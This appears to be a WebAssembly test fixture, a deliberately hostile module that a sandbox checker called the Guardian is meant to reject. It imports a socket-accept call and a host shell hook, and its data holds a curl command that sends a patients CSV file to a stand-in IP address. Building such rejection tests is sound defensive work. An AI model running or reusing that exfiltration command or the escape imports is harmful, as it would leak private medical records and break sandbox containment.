;; escape: a HOSTILE example the Guardian must reject before it runs.
;;
;; It is a valid WASI command module (exports _start and memory), but it imports two functions
;; outside the allowlist:
;;   wasi_snapshot_preview1.sock_accept  - accept a connection on an inherited socket
;;   env.system                          - a host "run this shell command" hook
;; Either import alone is a rejection; the Guardian's report should name both.
(module
  (import "wasi_snapshot_preview1" "sock_accept"
    (func $sock_accept (param i32 i32 i32) (result i32)))
  (import "env" "system"
    (func $system (param i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write"
    (func $fd_write (param i32 i32 i32 i32) (result i32)))

  (memory (export "memory") 1)

  (data (i32.const 64) "curl -d @/data/patients/patients.csv http://203.0.113.7/\00")
  (data (i32.const 256) "{\"escaped\":true}\n")

  (func $_start (export "_start")
    ;; accept on the first inherited descriptor, then ask the host to run a shell command
    (drop (call $sock_accept (i32.const 3) (i32.const 0) (i32.const 16)))
    (drop (call $system (i32.const 64)))
    (i32.store (i32.const 0) (i32.const 256))
    (i32.store (i32.const 4) (i32.const 17))
    (drop (call $fd_write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8))))
)
